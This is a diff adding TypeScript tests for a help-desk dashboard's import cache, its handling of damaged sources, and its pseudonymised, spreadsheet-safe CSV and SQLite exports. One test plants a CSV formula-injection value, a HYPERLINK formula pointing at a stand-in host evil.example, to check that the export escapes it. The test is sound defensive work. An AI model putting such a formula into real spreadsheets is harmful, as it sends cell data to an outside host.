@@ -176,3 +176,70 @@ test('imported files come back on the next visit with the same KPIs; removed one
 	third.close();
 	cache.close();
 });
+
+test('a kept snapshot with wrong-typed rows is dropped with a reason on the next visit, and everything else loads', async () => {
+	const name = `imports-${Math.random()}`;
+	const visit = () => createSession(async () => openNodeDatabase(), {businessHours}, {openImports: () => openImportCache({name})});
+	const first = visit();
+	expect(await first.importFile('tickets.csv', file(zendeskCsv), {})).toMatchObject({ok: true});
+	const snapshot = JSON.parse(await first.exportSnapshot()) as Record<string, unknown>;
+	first.close();
+
+	const cache = openImportCache({name});
+	const id = 'snapshot:poisoned.json:1:1';
+	await keepImport(cache, {id, savedAt: Date.now(), info: {id, name: 'poisoned.json', kind: 'snapshot', rows: 3, tickets: 3, warnings: []}, data: {snapshot: {...snapshot, escalations: [{ticketKey: null}, 5]}}});
+	cache.close();
+
+	const second = visit();
+	const restored = await second.restoreImports();
+	expect(restored.sources.map(source => source.name)).toEqual(['tickets.csv']);
+	expect(restored.problems).toEqual([expect.stringMatching(/^poisoned\.json: not restored, escalations\[0\]\.ticketKey: expected a non-empty text.+ Import it again\.$/)]);
+	const summary = await second.reload();
+	expect(summary.tickets).toBe(3);
+	expect(summary.sources.map(source => [source.name, source.error])).toEqual([['tickets.csv', undefined]]);
+	second.close();
+});
+
+test('a source that fails to load is listed with its error; everything else still loads; removing it loads cleanly', async () => {
+	const imports = await session();
+	expect(await imports.importFile('tickets.csv', file(zendeskCsv))).toMatchObject({ok: true});
+	// A store whose rows are damaged (as a corrupted browser database would be): it reaches the loader unchecked.
+	await imports.setStoreDataset({tickets: [{key: 'zendesk:x:1', helpdesk: 'zendesk'}], events: [], surveys: [], customers: []} as never);
+	const summary = await imports.reload();
+	expect(summary.tickets).toBe(3);
+	const store = summary.sources.find(source => source.id === 'store');
+	expect(store?.error).toMatch(/Invalid dataset .*tickets\[0\]\.ticketId/);
+	expect(summary.sources.find(source => source.name === 'tickets.csv')?.error).toBeUndefined();
+	expect(imports.kpis()[0]!.tickets).toBe(3);
+
+	// Exports leave the failed source out too.
+	expect((JSON.parse(await imports.exportSnapshot()) as {tickets: unknown[]}).tickets).toHaveLength(3);
+	expect(await imports.removeSource('store')).toBe(true);
+	const clean = await imports.reload();
+	expect(clean.sources.map(source => source.error)).toEqual([undefined]);
+	imports.close();
+});
+
+test('CSV bundle and SQLite exports hold pseudonymised customers and spreadsheet-safe cells', async () => {
+	const imports = await session();
+	// An agent name that a spreadsheet would run as a formula, and customers known by e-mail.
+	const hostile = zendeskCsv.replaceAll('Ana Ruiz', '"=HYPERLINK(""https://evil.example/?""&A1,""open"")"').replaceAll(',9001,', ',dana@example.com,');
+	expect(await imports.importFile('tickets.csv', file(hostile), {host: 'acme.zendesk.com'})).toMatchObject({ok: true});
+	await imports.reload();
+	// The loaded database itself keeps the raw keys (the dashboard's own queries need nothing else).
+	expect(JSON.stringify(imports.kpis({groupBy: 'agent'}))).toMatch(/=HYPERLINK/);
+
+	const zip = new TextDecoder().decode(await imports.exportCsvBundle());
+	expect(zip).not.toMatch(/dana@example\.com|zendesk:acme\.zendesk\.com:(email|id):/);
+	expect(zip).toMatch(/"'=HYPERLINK\(""https:\/\/evil\.example/);
+	expect(zip).not.toMatch(/(^|,)"?=HYPERLINK/m);
+	expect(zip).toMatch(/,h:[\da-f]{32},/);
+
+	const sqlite = await openNodeDatabase(await imports.exportSqlite());
+	const keys = sqlite.exec('SELECT requester_key FROM ticket_metrics')[0]!.values.map(row => row[0]);
+	expect(keys).toHaveLength(3);
+	expect(keys.every(key => typeof key === 'string' && /^h:[\da-f]{32}$/.test(key))).toBe(true);
+	expect(new TextDecoder().decode(sqlite.export())).not.toMatch(/dana@example\.com/);
+	sqlite.close();
+	imports.close();
+});
